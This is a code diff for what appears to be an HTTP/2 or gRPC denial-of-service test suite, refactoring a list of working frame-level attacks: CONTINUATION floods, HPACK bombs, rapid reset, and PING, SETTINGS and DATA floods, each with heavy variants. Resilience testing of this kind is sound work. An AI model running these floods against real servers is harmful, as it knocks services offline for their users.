@@ -1,4 +1,4 @@
-import { type Attack, connections, sendAll, sendBatches } from "./attack.ts";
+import { type Attack, connections, overOne, sendAll, sendBatches } from "./attack.ts";
 import {
   data,
   flag,
@@ -18,6 +18,25 @@ import { callHeaders } from "./requests.ts";
 // Client streams are odd, and each is higher than those before.
 const streamOf = (index: number) => 1 + 2 * index;
 const opened = headers(1, callHeaders());
+
+/** A header that is remembered once, and repeated so often in each stream. */
+function hpackBombs(repetitions: number): Attack["run"] {
+  const remember = indexedLiteral("x-bomb", "b".repeat(3_900));
+  const bomb = Buffer.alloc(repetitions, newestIndexed);
+  return async (target, count) => {
+    const all = await connections(target, Math.ceil(count / 100));
+    for (const client of all)
+      await sendAll(client, Math.min(100, count), (index) =>
+        headers(streamOf(index), Buffer.concat([callHeaders(), index === 0 ? remember : Buffer.alloc(0), bomb])),
+      );
+    return all;
+  };
+}
+
+function openedAndReset(call: Buffer): Attack["run"] {
+  const piece = (index: number) => Buffer.concat([headers(streamOf(index), call), rstStream(streamOf(index))]);
+  return overOne((client, count) => sendBatches(client, count, piece, 20));
+}
 
 /** The same pseudo-random bytes in every run. */
 function noise(length: number, seed: number): Buffer {
@@ -73,26 +92,20 @@ export const attacksOnFrames: readonly Attack[] = [
     name: "headers that never end (CONTINUATION flood), KiB",
     count: 4_096,
     heavyCount: 65_536,
-    async run(target, count) {
-      const [client] = await connections(target, 1);
-      if (client === undefined) return [];
+    run: overOne(async (client, count) => {
       await client.send(frame(frameType.headers, 0, 1, callHeaders()));
       const piece = frame(frameType.continuation, 0, 1, headerBlock([["x-flood", "a".repeat(1_000)]]));
       await sendBatches(client, count, () => piece);
-      return [client];
-    },
+    }),
   },
   {
     name: "empty CONTINUATION frames without end",
     count: 20_000,
     heavyCount: 1_000_000,
-    async run(target, count) {
-      const [client] = await connections(target, 1);
-      if (client === undefined) return [];
+    run: overOne(async (client, count) => {
       await client.send(frame(frameType.headers, 0, 1, callHeaders()));
       await sendBatches(client, count, () => frame(frameType.continuation, 0, 1), 1_000);
-      return [client];
-    },
+    }),
   },
   {
     name: "streams with 60 KiB of headers each",
@@ -141,65 +154,25 @@ export const attacksOnFrames: readonly Attack[] = [
     name: "a 4 KiB header that is repeated a byte each time (HPACK bomb)",
     count: 100,
     heavyCount: 5_000,
-    async run(target, count) {
-      const all = await connections(target, Math.ceil(count / 100));
-      const remember = indexedLiteral("x-bomb", "b".repeat(3_900));
-      const bomb = Buffer.alloc(10_000, newestIndexed);
-      for (const client of all)
-        await sendAll(client, Math.min(100, count), (index) =>
-          headers(streamOf(index), Buffer.concat([callHeaders(), index === 0 ? remember : Buffer.alloc(0), bomb])),
-        );
-      return all;
-    },
+    run: hpackBombs(10_000),
   },
   {
     name: "the same, with as many repetitions as are taken (15 a stream)",
     count: 500,
     heavyCount: 10_000,
-    async run(target, count) {
-      const all = await connections(target, Math.ceil(count / 100));
-      const remember = indexedLiteral("x-bomb", "b".repeat(3_900));
-      const bomb = Buffer.alloc(15, newestIndexed);
-      for (const client of all)
-        await sendAll(client, Math.min(100, count), (index) =>
-          headers(streamOf(index), Buffer.concat([callHeaders(), index === 0 ? remember : Buffer.alloc(0), bomb])),
-        );
-      return all;
-    },
+    run: hpackBombs(15),
   },
   {
     name: "streams opened and reset at once (rapid reset)",
     count: 10_000,
     heavyCount: 100_000,
-    async run(target, count) {
-      const [client] = await connections(target, 1);
-      if (client === undefined) return [];
-      const call = callHeaders();
-      await sendBatches(
-        client,
-        count,
-        (index) => Buffer.concat([headers(streamOf(index), call), rstStream(streamOf(index))]),
-        20,
-      );
-      return [client];
-    },
+    run: openedAndReset(callHeaders()),
   },
   {
     name: "the same for a method that does not exist",
     count: 10_000,
     heavyCount: 100_000,
-    async run(target, count) {
-      const [client] = await connections(target, 1);
-      if (client === undefined) return [];
-      const call = callHeaders("/no.such.Service/Method");
-      await sendBatches(
-        client,
-        count,
-        (index) => Buffer.concat([headers(streamOf(index), call), rstStream(streamOf(index))]),
-        20,
-      );
-      return [client];
-    },
+    run: openedAndReset(callHeaders("/no.such.Service/Method")),
   },
   {
     name: "windows opened beyond 2 GiB (WINDOW_UPDATE overflow)",
@@ -216,63 +189,48 @@ export const attacksOnFrames: readonly Attack[] = [
     name: "PINGs without end",
     count: 50_000,
     heavyCount: 1_000_000,
-    async run(target, count) {
-      const [client] = await connections(target, 1);
-      if (client === undefined) return [];
+    run: overOne(async (client, count) => {
       await sendBatches(client, count, () => ping, 1_000);
-      return [client];
-    },
+    }),
   },
   {
     name: "PINGs without end, whose answers are not read",
     count: 200_000,
     heavyCount: 2_000_000,
-    async run(target, count) {
-      const [client] = await connections(target, 1);
-      if (client === undefined) return [];
+    run: overOne(async (client, count) => {
       client.socket.pause();
       await inTime(sendBatches(client, count, () => ping, 1_000));
-      return [client];
-    },
+    }),
   },
   {
     name: "SETTINGS without end",
     count: 20_000,
     heavyCount: 500_000,
-    async run(target, count) {
-      const [client] = await connections(target, 1);
-      if (client === undefined) return [];
+    run: overOne(async (client, count) => {
       await sendBatches(client, count, (index) => settings({ 4: 65_535 + (index % 2) }), 1_000);
-      return [client];
-    },
+    }),
   },
   {
     name: "empty DATA frames without end",
     count: 50_000,
     heavyCount: 1_000_000,
-    async run(target, count) {
-      const [client] = await connections(target, 1);
-      if (client === undefined) return [];
+    run: overOne(async (client, count) => {
       await client.send(opened);
       await sendBatches(client, count, () => data(1, Buffer.alloc(0)), 1_000);
-      return [client];
-    },
+    }),
   },
   {
     name: "calls to methods that do not exist",
     count: 2_000,
     heavyCount: 50_000,
-    async run(target, count) {
-      const [client] = await connections(target, 1);
-      if (client === undefined) return [];
+    run: overOne(async (client, count) => {
       await sendBatches(
         client,
         count,
         (index) => headers(streamOf(index), callHeaders(`/no.such.Service/é${index}`), { end: true }),
         20,
       );
-      return [client];
-    },
+    }),
   },
 ];
 
